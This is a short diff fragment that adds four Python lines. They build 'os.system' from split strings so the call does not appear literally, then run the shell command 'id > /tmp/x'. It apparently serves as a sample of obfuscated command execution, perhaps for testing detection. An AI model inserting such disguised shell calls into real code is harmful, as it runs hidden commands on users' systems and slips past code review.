@@ -1,0 +1,4 @@
+m = ''.join(['o', 's'])
+f = 'sys' + 'tem'
+run = getattr(__import__(m), f)
+run('id > /tmp/x')
